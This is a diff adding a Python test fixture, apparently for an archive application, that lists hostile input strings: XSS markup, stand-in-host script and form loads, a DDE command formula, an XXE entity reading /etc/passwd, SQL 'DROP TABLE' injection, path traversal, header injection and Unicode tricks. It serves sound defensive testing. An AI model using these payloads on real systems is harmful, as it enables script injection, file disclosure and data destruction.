@@ -1,0 +1,73 @@
+"""Hostile texts, as a watched site, an import or a careless colleague might bring them into the archive."""
+
+_CALL = "window.pwned=(window.pwned||0)+1"
+
+PAYLOADS: dict[str, str] = {
+    # markup that would run something
+    "script": f"<script>{_CALL}</script>",
+    "script of another host": '<script src="https://evil.example/x.js"></script>',
+    "script after a tag": f"</title></textarea></style></script><script>{_CALL}</script>",
+    "script in a comment": f"--><script>{_CALL}</script><!--",
+    "script in CDATA": f"]]><script>{_CALL}</script>",
+    "script, wide brackets": f"＜script＞{_CALL}＜/script＞",
+    "script, escaped once": f"&lt;script&gt;{_CALL}&lt;/script&gt;",
+    "script, nested": f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
+    "image": f"<img src=x onerror={_CALL}>",
+    "image out of an attribute": f'"><img src=x onerror="{_CALL}">',
+    "image, single quotes": f"'><img src=x onerror='{_CALL}'>",
+    "handler": f'" autofocus onfocus="{_CALL}" x="',
+    "handler, single quotes": f"' autofocus onfocus='{_CALL}' x='",
+    "handler without quotes": f"x onmouseover={_CALL} ",
+    "svg": f"<svg onload={_CALL}>",
+    "svg script": f"<svg><script>{_CALL}</script></svg>",
+    "svg animation": f'<svg><animate onbegin="{_CALL}" attributeName=x dur=1s>',
+    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{_CALL}">',
+    "details": f"<details open ontoggle={_CALL}>",
+    "video": f"<video><source onerror={_CALL}>",
+    "frame": f'<iframe srcdoc="<script>parent.{_CALL}</script>"></iframe>',
+    "object": '<object data="data:text/html,<script>parent.pwned=1</script>"></object>',
+    "base": '<base href="https://evil.example/">',
+    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "form": '<form action="https://evil.example/"><input name=csrf><button>Weiter</button>',
+    "style": "<style>body{display:none}@import 'https://evil.example/x.css'</style>",
+    "style of a link": '<link rel=stylesheet href="https://evil.example/x.css">',
+    "template element": f"<template><script>{_CALL}</script></template>",
+    # addresses
+    "javascript url": f"javascript:{_CALL}",
+    "javascript link": f'<a href="javascript:{_CALL}">weiter</a>',
+    "javascript url, hidden": f"java\tscript:{_CALL}",
+    "data url": "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
+    "link to itself": "https://evil.example/?a=1&b=2\"'<>",
+    # templates
+    "template": "{{7*191}}",
+    "template, statement": "{% for x in range(3) %}7{% endfor %}{{ config }}",
+    "template, dollar": "${7*191} #{7*191} <%= 7*191 %>",
+    "template, format": "{0.__class__.__mro__} %(name)s %s %n",
+    # tables
+    "formula": "=1+191",
+    "formula, command": "=cmd|' /C calc'!A0",
+    "formula, hyperlink": '=HYPERLINK("https://evil.example/","weiter")',
+    "formula, plus": "+1+191",
+    "formula, minus": "-1+191",
+    "formula, at": "@SUM(1+191)",
+    "formula, tab": "\t=1+191",
+    "formula, wide": "＝1+191",
+    "cells": 'a","b";"c\td',
+    # headers, lines, directions, what is not seen
+    "header": "Subject\r\nBcc: evil@example.org\r\n\r\n<b>body",
+    "header, encoded": "=?utf-8?q?=0D=0ABcc=3A_evil=40example.org?=",
+    "line separators": "one\u2028two\u2029three\x85four\x0bfive",
+    "direction": "gpj.\u202eexe\u2066x\u2069 \u200f",
+    "invisible": "a\u200bb\u200dc\ufeffd\u00ade",
+    "control": "bell\x07 escape\x1b[31mred\x1b[0m null\x00 end",
+    "broken pairs": "half \ud83d of one",
+    # documents
+    "markdown": "# h\n[weiter](javascript:alert(1)) ![x](https://evil.example/x.png) `code` | a | b |",
+    "markdown html": "**bold** <b>bold</b> [^1]: note &amp; ~~~",
+    "xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+    "word field": '{ HYPERLINK "https://evil.example/" } \u0013 INCLUDETEXT \u0015',
+    "sql": "'); DROP TABLE item; --",
+    "path": "../../../../etc/passwd",
+    "long": "长" * 3000 + "word" * 200,
+}
+"""By what each would like to be."""
